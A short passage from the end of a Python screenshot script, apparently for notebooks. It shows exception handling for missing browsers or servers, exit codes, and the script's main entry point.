        except (RuntimeError, AssertionError) as error:  # BrowserMissing, no server, a stuck notebook
            print(f"screenshots: {error}", file=sys.stderr)
            return 2
    print("\n".join(failed) or f"screenshots in {shots}")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
